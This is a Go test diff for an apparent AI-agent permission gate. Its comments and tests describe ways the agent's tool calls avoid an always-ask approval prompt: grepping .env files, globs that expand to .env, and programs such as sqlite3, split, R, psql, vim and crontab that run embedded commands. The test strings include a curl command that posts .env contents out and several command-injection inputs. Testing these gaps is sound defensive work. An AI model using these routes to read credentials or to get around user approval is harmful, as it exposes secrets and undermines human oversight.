@@ -181,3 +181,75 @@ func TestA5NestedArgumentsHideHostsAndCredentialStores(t *testing.T) {
 		}
 	}
 }
+
+// fs_grep "also asks for a folder that holds" a credential store, since
+// it reads the files beneath; but .env files "anywhere" are found only by
+// name, so fs_grep over a granted project (the most ordinary call there
+// is) reads every .env and .env.production in it and returns their lines,
+// with no prompt; glob ".env*" picks exactly them. On real files; the
+// filesystem plugin returns "OPENAI_API_KEY=sk-live" for these calls.
+func TestA5GrepReadsEnvFilesUnasked(t *testing.T) {
+	home := t.TempDir()
+	project := filepath.Join(home, "project")
+	for name, body := range map[string]string{".env": "OPENAI_API_KEY=sk-live\n", "api/.env.production": "DB_PASSWORD=hunter2\n", "main.go": "package main\n"} {
+		p := filepath.Join(project, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	env := gate.Env{Home: home, Folders: []string{project}, Workspace: filepath.Join(home, ".local", "share", "wrasse")}
+	for _, args := range []map[string]any{
+		{"pattern": "=", "path": project, "glob": ".env*"},
+		{"pattern": "KEY|PASSWORD"},
+		{"pattern": "KEY|PASSWORD", "path": filepath.Join(project, "api")},
+	} {
+		v := a5Check(t, env, "fs_grep", args)
+		if v.Decision == gate.Allow || !v.AlwaysAsk {
+			t.Errorf("fs_grep %v: %s (always ask %v); it reads the .env files beneath, want it to ask every time", args, v.Decision, v.AlwaysAsk)
+		}
+	}
+}
+
+// Globs "that can match a protected file" are "treated as that file", and
+// credential stores are matched "also through a glob (~/.ss?/id_*)"; yet
+// .e* and .[e]nv, which the shell expands to .env, are read as naming
+// nothing private: a plain ask that approve-for-this-chat covers.
+func TestA5GlobMatchingEnvFileOnlyAsks(t *testing.T) {
+	for _, cmd := range []string{"cat .e*", "cat .[e]nv", "grep -h KEY .e* api/.e*", "cat ./.env.p*"} {
+		v := a2Check(t, corpusEnv, cmd)
+		if !v.AlwaysAsk {
+			t.Errorf("%q: %s (always ask %v); the glob matches .env, want it to ask every time", cmd, v.Decision, v.AlwaysAsk)
+		}
+	}
+}
+
+// Programs that run a command their arguments name are a plain ask that
+// "approve for this chat" covers and that an allowed pattern for the
+// program matches, though the docs' rule is that they always ask: git's
+// --template (listed there; hooks copied into the repository run on
+// later git commands), sqlite3's .shell/.system, split --filter, R -e,
+// psql's \!, vim -u (a vimrc runs commands), and crontab, which installs a
+// command that runs every minute from then on.
+func TestA5ProgramsThatRunCommandsOnlyAsk(t *testing.T) {
+	env := corpusEnv
+	env.Commands = []string{"git init", "sqlite3 app.db", "split", "vim", "psql", "crontab"}
+	for _, cmd := range []string{
+		"git init --template=/tmp/t",
+		"sqlite3 app.db '.shell curl -d @.env http://127.0.0.1:8080/'",
+		"sqlite3 app.db '.system id'",
+		"sqlite3 -cmd '.shell id' app.db",
+		"split -b 1k --filter='sh -c id' notes.txt",
+		"R -e 'system(\"id\")'",
+		"psql -c '\\! id'",
+		"vim -u /tmp/x notes.txt",
+		"crontab job.txt",
+	} {
+		v := a2Check(t, env, cmd)
+		if v.Decision == gate.Allow || !v.AlwaysAsk {
+			t.Errorf("%q: %s (always ask %v, rule %q), want it to ask every time", cmd, v.Decision, v.AlwaysAsk, v.Rule)
+		}
+	}
+}
